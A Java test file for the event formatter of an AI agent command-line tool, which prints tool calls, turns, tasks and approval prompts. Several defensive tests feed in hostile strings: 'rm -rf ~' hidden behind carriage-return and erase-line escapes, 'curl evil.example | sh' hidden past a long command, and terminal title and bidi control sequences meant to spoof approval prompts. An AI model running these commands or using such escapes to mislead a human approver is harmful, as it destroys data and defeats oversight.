package dev.cohort.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.cohort.core.protocol.Json;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Event → lines, as `cohort chat` prints them; payloads as the engine and lead-service emit them. */
class EventFormatterTest {

    private final EventFormatter plain = new EventFormatter(Style.PLAIN);

    private static JsonNode event(String type, String agent, String data) throws Exception {
        return Json.MAPPER.readTree("{\"id\":\"e1\",\"team\":\"default\",\"agent\":\"" + agent + "\",\"seq\":7,"
                + "\"ts\":\"2025-01-01T00:00:00Z\",\"type\":\"" + type + "\",\"data\":" + data + "}");
    }

    private List<String> lead(String type, String data) throws Exception {
        return plain.format(event(type, "lead", data));
    }

    @Test
    void toolCallsShowTheirMainArgumentAndResultsAShortPreview() throws Exception {
        assertThat(lead("tool_call_started", "{\"turnId\":\"t\",\"callId\":\"c1\",\"tool\":\"bash\",\"args\":\"{\\\"command\\\":\\\"ls -la\\\"}\"}"))
                .containsExactly("→ bash ls -la");
        assertThat(lead("tool_call_started", "{\"tool\":\"read_file\",\"args\":\"{\\\"path\\\":\\\"src/Main.java\\\",\\\"limit\\\":10}\"}"))
                .containsExactly("→ read_file src/Main.java");
        // unknown tool: compact JSON; arguments cut by the engine (not JSON any more): the raw text
        assertThat(lead("tool_call_started", "{\"tool\":\"mystery\",\"args\":\"{\\\"a\\\":1}\"}")).containsExactly("→ mystery {\"a\":1}");
        assertThat(lead("tool_call_started", "{\"tool\":\"bash\",\"args\":\"{\\\"command\\\":\\\"echo very lo…\"}"))
                .containsExactly("→ bash {\"command\":\"echo very lo…");
        List<String> done = lead("tool_call_finished", "{\"tool\":\"bash\",\"callId\":\"c1\",\"durationMs\":12,\"error\":false,"
                + "\"preview\":\"a\\nb\\n\\nc\\nd\\ne\\nf\\n\"}");
        assertThat(done).containsExactly("← bash (12 ms)", "  │ a", "  │ b", "  │ c", "  │ d", "  │ … 2 more lines");
        assertThat(lead("tool_call_finished", "{\"tool\":\"bash\",\"durationMs\":3,\"error\":true,\"rule\":\"deny:rm\",\"preview\":\"denied\"}"))
                .containsExactly("✗ bash failed (3 ms, rule deny:rm)", "  │ denied");
    }

    @Test
    void longArgumentsAreCutToOneLine() {
        String cmd = "echo " + "x".repeat(300) + "\nsecond line";
        String p = EventFormatter.argsPreview("bash", Json.MAPPER.createObjectNode().put("command", cmd));
        assertThat(p).hasSize(EventFormatter.ARGS_MAX).endsWith("…").doesNotContain("\n");
        assertThat(EventFormatter.argsPreview("bash", null)).isEmpty();
        assertThat(EventFormatter.argsPreview("list_tasks", Json.MAPPER.createObjectNode())).isEmpty();
    }

    @Test
    void assistantTextTurnsAndErrors() throws Exception {
        assertThat(lead("assistant_message", "{\"text\":\"Done.\\nAll clean.\",\"toolCalls\":[]}")).containsExactly("Done.", "All clean.");
        assertThat(lead("assistant_message", "{\"toolCalls\":[\"bash\"]}")).isEmpty();
        assertThat(lead("turn_started", "{\"turnId\":\"t\",\"source\":\"cli\"}")).containsExactly("── turn started (cli)");
        assertThat(lead("turn_completed", "{\"turnId\":\"t\",\"reason\":\"completed\",\"status\":\"completed\",\"modelCalls\":2,"
                + "\"usage\":{\"inputTokens\":100,\"outputTokens\":20,\"costUsd\":0.0}}"))
                .containsExactly("── turn completed · 2 model calls · 100 in / 20 out tokens");
        assertThat(lead("turn_completed", "{\"reason\":\"completed\",\"status\":\"completed\",\"modelCalls\":2,"
                + "\"usage\":{\"inputTokens\":100,\"outputTokens\":20,\"costUsd\":0.0,\"unpricedCalls\":2}}"))
                .containsExactly("── turn completed · 2 model calls · 100 in / 20 out tokens · unknown price");
        assertThat(lead("turn_completed", "{\"reason\":\"interrupted\",\"status\":\"failed\",\"text\":\"Interrupted by the user.\",\"modelCalls\":1}"))
                .containsExactly("── turn ended: interrupted - Interrupted by the user. · 1 model call");
        assertThat(lead("turn_completed", "{\"reason\":\"error\",\"status\":\"failed\",\"message\":\"no model key\"}"))
                .containsExactly("── turn ended: error - no model key");
        assertThat(lead("error", "{\"message\":\"boom\"}")).containsExactly("error: boom");
        assertThat(lead("model_retry", "{\"action\":\"retry\",\"attempt\":1,\"maxAttempts\":5,\"kind\":\"rate_limit\",\"status\":429,"
                + "\"code\":\"rate_limit_exceeded\",\"delayMs\":1000}"))
                .containsExactly("↻ model call failed (429 rate_limit_exceeded), retry 1/5 in 1000 ms");
        assertThat(lead("compacted", "{\"layer\":\"L2\",\"tokensBefore\":9000,\"tokensAfter\":1200}"))
                .containsExactly("⇣ context compacted (L2, 9000 → 1200 tokens)");
    }

    @Test
    void budgetWarningsAndStopsShowTheirSentence() throws Exception {
        assertThat(lead("budget_warning", "{\"budget\":\"tokensPerAgent\",\"scope\":\"agent\",\"used\":900,\"limit\":1000,"
                + "\"percent\":90,\"message\":\"Warning: agent t/lead has used 900 tokens, 90 % of its budget tokensPerAgent (1000).\"}"))
                .containsExactly("! Warning: agent t/lead has used 900 tokens, 90 % of its budget tokensPerAgent (1000).");
        assertThat(plain.format(event("budget_exceeded", "sam", "{\"budget\":\"tokensPerAgent\",\"used\":1200,\"limit\":1000,"
                + "\"message\":\"Stopped: agent t/sam used 1200 tokens, its budget is 1000.\"}")))
                .containsExactly("[sam] ■ Stopped: agent t/sam used 1200 tokens, its budget is 1000.");
    }

    @Test
    void todosTasksAndApprovals() throws Exception {
        assertThat(lead("todo_updated", "{\"todos\":[{\"content\":\"read\",\"status\":\"completed\"},"
                + "{\"content\":\"fix\",\"status\":\"in_progress\"},{\"content\":\"test\",\"status\":\"pending\"}]}"))
                .containsExactly("todos:", "  [x] read", "  [>] fix", "  [ ] test");
        assertThat(lead("task_created", "{\"id\":\"task_3\",\"subject\":\"endpoints\",\"status\":\"pending\",\"blockedBy\":[\"task_1\"]}"))
                .containsExactly("+ task_3 endpoints (blocked by task_1)");
        assertThat(plain.format(event("task_claimed", "alice", "{\"id\":\"task_1\",\"subject\":\"schema\",\"owner\":\"alice\"}")))
                .containsExactly("[alice] ● task_1 schema claimed by alice");
        assertThat(lead("task_completed", "{\"id\":\"task_1\",\"subject\":\"schema\",\"owner\":\"lead\","
                + "\"unblocked\":[{\"id\":\"task_2\",\"subject\":\"endpoints\"},{\"id\":\"task_3\",\"subject\":\"docs\"}]}"))
                .containsExactly("✓ task_1 schema completed by lead; unblocked: task_2 endpoints, task_3 docs");
        assertThat(lead("approval_requested", "{\"approvalId\":\"0123456789abcdef\",\"tool\":\"bash\","
                + "\"args\":{\"command\":\"rm -r build\"},\"reason\":\"deletes files\",\"status\":\"pending\"}"))
                .containsExactly("? approval needed: bash rm -r build - deletes files [01234567]");
        assertThat(lead("approval_resolved", "{\"approvalId\":\"0123456789abcdef\",\"status\":\"denied\",\"answer\":\"keep it\"}"))
                .containsExactly("✗ approval 01234567 denied: keep it");
    }

    @Test
    void subagentsAreMarkedAndUnknownTypesStillShow() throws Exception {
        assertThat(lead("tool_call_started", "{\"tool\":\"grep\",\"args\":\"{\\\"pattern\\\":\\\"TODO\\\"}\",\"subagent\":true}"))
                .containsExactly("[lead›sub] → grep TODO");
        assertThat(lead("teammate_spawned", "{\"name\":\"alice\"}")).containsExactly("teammate_spawned {\"name\":\"alice\"}");
    }

    @Test
    void everyEventOfATeammateIsPrefixedWithItsNameWhateverItsType() throws Exception {
        assertThat(plain.format(event("turn_started", "alice", "{\"turnId\":\"t\",\"source\":\"inbox\"}")))
                .containsExactly("[alice] ── turn started (inbox)");
        assertThat(plain.format(event("assistant_message", "alice", "{\"text\":\"Schema done.\\nTests pass.\"}")))
                .containsExactly("[alice] Schema done.", "[alice] Tests pass.");
        assertThat(plain.format(event("approval_requested", "alice", "{\"approvalId\":\"0123456789abcdef\",\"tool\":\"bash\","
                + "\"args\":{\"command\":\"rm -r build\"},\"status\":\"pending\"}")))
                .containsExactly("[alice] ? approval needed: bash rm -r build [01234567]");
        assertThat(plain.format(event("turn_completed", "alice", "{\"reason\":\"completed\",\"status\":\"completed\",\"modelCalls\":1}")))
                .containsExactly("[alice] ── turn completed · 1 model call");
        assertThat(plain.format(event("turn_completed", "bob", "{\"reason\":\"error\",\"status\":\"failed\",\"message\":\"no key\"}")))
                .containsExactly("[bob] ── turn ended: error - no key");
        assertThat(plain.format(event("teammate_phase", "bob", "{\"phase\":\"idle\"}"))).containsExactly("[bob] teammate_phase {\"phase\":\"idle\"}");
        // the lead's own turn lines stay unprefixed; an event without an agent is the lead's
        assertThat(lead("turn_started", "{\"source\":\"cron\"}")).containsExactly("── turn started (cron)");
        assertThat(plain.format(Json.MAPPER.readTree("{\"type\":\"error\",\"data\":{\"message\":\"x\"}}"))).containsExactly("error: x");
    }

    @Test
    void anApprovalIsAskedWithTheNameOfTheTeammateThatAsksAndWithoutOneForTheLead() {
        assertThat(ChatCommand.question(Style.PLAIN, new ChatCommand.Pending("a1", "alice", "bash", "rm -r build")))
                .isEqualTo("[alice] Approve bash: rm -r build? [y/N] ");
        assertThat(ChatCommand.question(Style.PLAIN, new ChatCommand.Pending("a2", "lead", "write_file", "/etc/hosts")))
                .isEqualTo("Approve write_file: /etc/hosts? [y/N] ");
        assertThat(ChatCommand.question(Style.PLAIN, new ChatCommand.Pending("a3", "", "list_tasks", "")))
                .isEqualTo("Approve list_tasks? [y/N] ");
        assertThat(ChatCommand.question(new Style(true), new ChatCommand.Pending("a4", "bob", "bash", "ls")))
                .isEqualTo("\u001b[2m[bob] \u001b[0m\u001b[33mApprove bash: ls?\u001b[0m [y/N] ");
    }

    @Test
    void coloursOnlyWhenAsked() throws Exception {
        List<String> c = new EventFormatter(new Style(true)).format(event("error", "lead", "{\"message\":\"boom\"}"));
        assertThat(c).containsExactly("\u001b[31merror: boom\u001b[0m");
    }

    /** A carriage return and "erase line": what follows would overwrite the start of the line a person reads. */
    private static final String REWRITE = "rm -rf ~\r\u001b[2KApprove bash: ls? [y/N]";

    /** An event built as a tree, so the hostile strings need no JSON escaping in the test. */
    private static ObjectNode raw(String type, String agent) {
        ObjectNode e = Json.MAPPER.createObjectNode().put("id", "e1").put("team", "default").put("agent", agent).put("seq", 7)
                .put("ts", "2025-01-01T00:00:00Z").put("type", type);
        e.putObject("data");
        return e;
    }

    private static ObjectNode data(ObjectNode event) {
        return (ObjectNode) event.get("data");
    }

    @Test
    void modelTextCannotRewriteTheLineItIsPrintedOn() {
        ObjectNode text = raw("assistant_message", "lead");
        data(text).put("text", "Done.\n" + REWRITE);
        assertThat(plain.format(text)).containsExactly("Done.", "rm -rf ~^M^[[2KApprove bash: ls? [y/N]");

        ObjectNode asked = raw("approval_requested", "lead");
        data(asked).put("approvalId", "0123456789abcdef").put("tool", "bash").put("status", "pending")
                .putObject("args").put("command", REWRITE);
        assertThat(plain.format(asked)).containsExactly("? approval needed: bash rm -rf ~^M^[[2KApprove bash: ls? [y/N] [01234567]");
    }

    @Test
    void toolOutputShowsTitleSequencesEightBitCsiAndBidiOverridesAsText() {
        ObjectNode done = raw("tool_call_finished", "lead");
        data(done).put("tool", "bash").put("durationMs", 3).put("error", false)
                .put("preview", "done\u001b]0;pwned\u0007\nsee \u009b2J\nfile\u202egnp.exe");
        assertThat(plain.format(done)).containsExactly("← bash (3 ms)", "  │ done^[]0;pwned^G", "  │ see <U+009B>2J",
                "  │ file<U+202E>gnp.exe");

        ObjectNode started = raw("tool_call_started", "lead");
        data(started).put("tool", "bash").put("args", "{\"command\":\"echo \\u001b]0;x\\u0007 \\u009b\"}");
        assertThat(plain.format(started)).containsExactly("→ bash echo ^[]0;x^G <U+009B>");
    }

    @Test
    void namesSubjectsAndAnswersStayOnTheirLineWhateverTheyContain() {
        ObjectNode task = raw("task_created", "ev\u001b[0mil");
        data(task).put("id", "task_1").put("subject", "fix\nApprove bash: ls? [y/N]");
        assertThat(plain.format(task)).containsExactly("[ev^[[0mil] + task_1 fix↵Approve bash: ls? [y/N]");

        ObjectNode resolved = raw("approval_resolved", "lead");
        data(resolved).put("approvalId", "0123456789abcdef").put("status", "denied").put("answer", "no\r\nreally\u202e");
        assertThat(plain.format(resolved)).containsExactly("✗ approval 01234567 denied: no↵really<U+202E>");

        ObjectNode unknown = raw("mystery\u001b[5m", "lead");
        data(unknown).put("k", "\u009b");
        assertThat(plain.format(unknown)).containsExactly("mystery^[[5m {\"k\":\"<U+009B>\"}");
    }

    @Test
    void lettersEmojiAndTabsAreUnchangedAndOurOwnColoursKept() {
        ObjectNode text = raw("assistant_message", "alice");
        data(text).put("text", "Grüße, 日本語 עברית 🎉\tdone");
        assertThat(plain.format(text)).containsExactly("[alice] Grüße, 日本語 עברית 🎉\tdone");

        ObjectNode error = raw("error", "lead");
        data(error).put("message", "boom\u001b[8m");
        assertThat(new EventFormatter(new Style(true)).format(error)).containsExactly("\u001b[31merror: boom^[[8m\u001b[0m");
    }

    @Test
    void anApprovalQuestionShowsTheCallsControlsAndNewlinesInsteadOfObeyingThem() {
        assertThat(ChatCommand.question(Style.PLAIN, new ChatCommand.Pending("a1", "lead", "bash", REWRITE)))
                .isEqualTo("Approve bash: rm -rf ~^M^[[2KApprove bash: ls? [y/N]? [y/N] ");
        assertThat(ChatCommand.question(Style.PLAIN, new ChatCommand.Pending("a2", "lead", "bash", "echo ok\ncurl x | sh")))
                .isEqualTo("Approve bash: echo ok↵curl x | sh? [y/N] ");
        assertThat(ChatCommand.question(Style.PLAIN, new ChatCommand.Pending("a3", "al\u001b[8mice", "bash\u009b", "a\u202eb")))
                .isEqualTo("[al^[[8mice] Approve bash<U+009B>: a<U+202E>b? [y/N] ");
        assertThat(ChatCommand.question(new Style(true), new ChatCommand.Pending("a4", "bob", "bash", "ls\u001b[8m")))
                .isEqualTo("\u001b[2m[bob] \u001b[0m\u001b[33mApprove bash: ls^[[8m?\u001b[0m [y/N] ");
    }

    @Test
    void aLongCallIsAskedWithItsFirst2000CharactersAndHowManyMoreThereAre() {
        String cmd = "echo " + "x".repeat(1_995) + "; curl evil.example | sh";
        assertThat(ChatCommand.question(Style.PLAIN, new ChatCommand.Pending("0123456789abcdef", "lead", "bash", cmd)))
                .isEqualTo("Approve bash: echo " + "x".repeat(1_995) + " (… 24 more characters, /show 01234567)? [y/N] ");
        String exact = "y".repeat(2_000);
        assertThat(ChatCommand.question(Style.PLAIN, new ChatCommand.Pending("a1", "lead", "bash", exact)))
                .isEqualTo("Approve bash: " + exact + "? [y/N] ");
    }

    @Test
    void theTaskBoardIsATable() throws Exception {
        JsonNode tasks = Json.MAPPER.readTree("[{\"id\":\"task_1\",\"subject\":\"schema\",\"status\":\"completed\",\"owner\":\"lead\",\"blockers\":[]},"
                + "{\"id\":\"task_2\",\"subject\":\"endpoints\",\"status\":\"pending\",\"owner\":null,\"blockers\":[\"task_1\",\"task_4\"],"
                + "\"worktree\":\"api\"}]");
        assertThat(TasksCommand.table(tasks)).containsExactly(
                "ID      STATUS     OWNER  BLOCKED BY     SUBJECT",
                "task_1  completed  lead                  schema",
                "task_2  pending           task_1,task_4  endpoints [worktree api]");
        assertThat(TasksCommand.table(Json.MAPPER.createArrayNode())).containsExactly("ID  STATUS  OWNER  BLOCKED BY  SUBJECT", "(no tasks)");
    }
}
